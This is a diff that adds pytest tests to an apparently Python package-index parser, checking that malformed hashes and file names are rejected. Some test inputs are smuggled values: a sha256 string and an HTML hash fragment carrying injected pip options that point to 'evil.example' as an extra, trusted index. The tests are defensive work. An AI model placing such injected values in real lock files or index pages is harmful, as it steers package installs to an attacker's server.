@@ -133,3 +133,40 @@ def test_parse_filename(filename, kind, version):
         assert parsed is not None
         assert (parsed.kind, str(parsed.version)) == (kind, version)
         assert parsed.name in {"foo-bar", "foo"}
+
+
+INJECTED = "\n--extra-index-url http://evil.example/simple/\n--trusted-host evil.example\nx"
+
+
+@pytest.mark.parametrize(
+    "entry",
+    [
+        {"hashes": {"sha256": "a" * 64 + INJECTED}},
+        {"hashes": {"sha256": "not-hex"}},
+        {"hashes": {"sha256": 42}},
+        {"hashes": ["sha256", SHA]},
+        {"hashes": {"sha256": SHA}, "core-metadata": {"sha256": "z" * 64}},
+        {"hashes": {"sha256": SHA}, "requires-python": [">=3"]},
+    ],
+)
+def test_a_json_value_that_is_not_what_its_key_says_makes_the_page_unreadable(entry):
+    """Trust-boundary item 5: a hash value carrying lines of pip options was written into
+    the lock; values are checked where they enter, naming the file."""
+    body = json_page({"filename": "demo-1.0.tar.gz", "url": "demo-1.0.tar.gz", **entry})
+    with pytest.raises(PageError, match=r"file 'demo-1\.0\.tar\.gz(\.metadata)?'"):
+        parse_json(body, PAGE)
+
+
+def test_an_html_hash_fragment_that_is_not_a_sha256_makes_the_page_unreadable():
+    body = b'<a href="demo-1.0.tar.gz#sha256=abc%0A--trusted-host%20x">demo-1.0.tar.gz</a>'
+    with pytest.raises(PageError, match="sha256 is not 64 hex digits"):
+        parse_html(body, PAGE)
+
+
+@pytest.mark.parametrize(
+    "filename",
+    ["gamma-1.1 -py3-none-any.whl", "gamma- 1.1.tar.gz", "gamma-1.1\n.tar.gz", "gam ma-1.1.zip"],
+)
+def test_a_file_name_pip_could_not_match_is_no_release(filename):
+    """Trust-boundary item 9: `gamma-1.1 -py3-none-any.whl` was pinned as 1.1."""
+    assert parse_filename(filename) is None
